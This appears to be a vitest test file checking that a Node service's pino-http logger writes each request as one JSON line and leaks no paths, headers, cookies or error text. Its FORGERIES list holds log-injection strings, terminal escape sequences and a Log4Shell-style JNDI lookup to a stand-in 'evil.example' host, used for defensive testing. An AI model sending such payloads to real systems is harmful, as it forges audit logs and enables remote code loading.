import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { Writable } from 'node:stream';
import { pinoHttp } from 'pino-http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Configuration } from '../configuration/configuration';
import { logging } from './logging';

/** What somebody writes who wants the log to say what did not happen, or the terminal of its reader to do something. */
const FORGERIES = [
  '%0d%0a{"level":30,"msg":"signed%20in"}',
  '","msg":"forged","x":"',
  '\\"},{"level":60,"msg":"forged"}',
  '%1b[2J%1b]0;forged%07',
  '\u2028forged\u2029',
  '\u0085forged',
  'ශ්‍රී"\\n\\u000aforged',
  '${jndi:ldap://evil.example/x}',
  `${'a'.repeat(4_000)}`,
];

describe('the log', () => {
  let server: Server;
  let written = '';

  beforeAll(async () => {
    const { pinoHttp: options } = logging(
      new Configuration({
        DB_HOST: '127.0.0.1',
        DB_USER: 'x',
        JWT_SECRET: 'Zk3v9sQ1xT7uLm2Pq8wR5yNcBfHdGjKa0e',
        LOG_LEVEL: 'debug',
      }),
    );
    if (!options || Array.isArray(options) || 'write' in options) throw new Error('no options');
    const stream = new Writable({ write: (chunk: Buffer, _, done) => ((written += chunk.toString()), done()) });
    const log = pinoHttp(options, stream);
    server = createServer((request, response) => {
      log(request, response);
      if (request.url?.startsWith('/fails')) {
        response.statusCode = 500;
        request.log.error({ err: new Error(`for ${decodeURIComponent(request.url.slice(6))}`) }, 'request failed');
      }
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => server.close());

  /** Says it as it stands: a client of ours would tidy it up. */
  const say = (path: string, headers: string) =>
    new Promise<void>((resolve) => {
      const place = server.address();
      const socket = connect(typeof place === 'object' && place ? place.port : 0, '127.0.0.1');
      socket.on('close', () => resolve()).resume();
      socket.end(Buffer.from(`GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}Connection: close\r\n\r\n`));
    });

  it('is one line of JSON a request, whatever is in its address, its headers or the error', async () => {
    for (const forged of FORGERIES) {
      written = '';
      await say(`/api/${forged}`, '');
      await say('/api/x', `X-Request-Id: ${forged}\r\nUser-Agent: ${forged}\r\nReferer: ${forged}\r\n`);
      await say(`/api/x?search=${forged}`, '');
      await say(`/fails${encodeURIComponent(forged)}`, '');
      const lines = written.split('\n').filter(Boolean);
      const told = lines.map((line): Record<string, unknown> => JSON.parse(line));
      // Node itself refuses some of them, before there is a request to write down.
      expect([3, 4, 5]).toContain(told.length);
      for (const line of told)
        expect(['request completed', 'request errored', 'request failed']).toContain(line['msg']);
      expect(written).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    }
  });

  it('holds nothing of an address, a header or an error’s message', async () => {
    written = '';
    await say(
      '/api/patients?search=Nimalka',
      'User-Agent: Nimalka\r\nAuthorization: Bearer Nimalka\r\nCookie: a=Nimalka\r\n',
    );
    await say('/failsNimalka', '');
    await say('/api/queue/display/Nimalka', '');
    expect(written.split('\n').filter(Boolean).length).toBeGreaterThanOrEqual(4);
    expect(written).not.toContain('Nimalka');
  });
});
